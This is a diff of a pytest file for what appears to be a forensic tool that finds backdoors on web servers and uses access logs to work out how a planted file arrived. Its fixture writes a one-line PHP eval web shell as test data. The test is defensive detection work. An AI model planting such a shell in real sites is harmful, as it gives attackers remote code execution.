@@ -1,5 +1,7 @@
 """judge --replay, --ach, --policy and confirm, as a person runs them."""
 import json
+import os
+from datetime import datetime, timedelta, timezone
 
 import pytest
 
@@ -19,18 +21,24 @@ statements:
 RATE = ("--rate", "290/300,0/400", "--rate-source", "a test of 700 findings, May 2026")
 
 
-@pytest.fixture
-def case(assay, tmp_path):
-    """A case with a backdoor that a sweep found: X01/1."""
+def make_case(assay, tmp_path, when=None):
+    """A case with a backdoor that a sweep found: X01/1. when: the file's own time."""
     tree = tmp_path / "www"
     (tree / "up").mkdir(parents=True)
     (tree / "up" / "a.php").write_text('<?php @eval($_POST["x"]); ?>\n')
     (tree / "index.php").write_text("<?php echo 'hello';\n")
+    if when is not None:
+        os.utime(tree / "up" / "a.php", (when, when))
     (tmp_path / "s.yaml").write_text(STATEMENTS)
     assay("open", "a.case", code=0)
     assay("state", "--case", "a.case", "-f", "s.yaml", code=0)
     assay("sweep", "www", "--case", "a.case", "--owner", "shop", code=1)
     return tmp_path / "a.case"
+
+
+@pytest.fixture
+def case(assay, tmp_path):
+    return make_case(assay, tmp_path)
 
 
 def verdict(assay, claim="C1"):
@@ -180,3 +188,22 @@ parties:
     assert any("in other hands at the time" in item["text"] for item in told["neutral"])
     assay("confirm", "X01/1", "--case", "a.case", "--by", "back", *RATE, code=0)    # its owner has it again
     assert verdict(assay)["log10_lr"] > alone["log10_lr"] + 1
+
+
+def test_how_it_came_is_weighed_where_nobody_used_it(assay, tmp_path):
+    """The file's own time agrees with a request of whoever asked for it first; a case keeps of its records what that takes."""
+    brought = datetime(2026, 3, 4, 9, 0, 10, tzinfo=timezone.utc)
+    make_case(assay, tmp_path, brought.timestamp())
+    line = '{} - - [{:%d/%b/%Y:%H:%M:%S +0000}] "{} HTTP/1.1" {} 300 "-" "UA"\n'
+    log = [(brought + timedelta(seconds=s), f"198.51.100.{s % 50}", "GET /index.php", 200) for s in range(-3600, 3600, 7)]
+    log += [(brought, "203.0.113.7", "POST /avatar.php", 302), (brought + timedelta(seconds=3), "203.0.113.7", "GET /up/a.php", 200)]
+    (tmp_path / "access.log").write_text("".join(line.format(who, when, what, status) for when, who, what, status in sorted(log)))
+    before = verdict(assay)
+    assay("trace", "access.log", "--case", "a.case", "--owner", "shop")
+    after = verdict(assay)
+    item = next(i for i in after["for"] if i["rate"] == "upload-candidate/high")
+    assert "1 of 1 planted file whose time lies in the web log came with a request" in item["text"] and item["log10_lr"] > .5
+    assert after["log10_lr"] > before["log10_lr"] + .5
+    assert all(i["rate"] != "upload-candidate/high" for i in verdict(assay, "C2")["for"])     # it says nothing of a use
+    assay("judge", "--case", "a.case", code=2)
+    assert "2 agree, 0 differ" in assay("judge", "--replay", "--case", "a.case", code=0).out
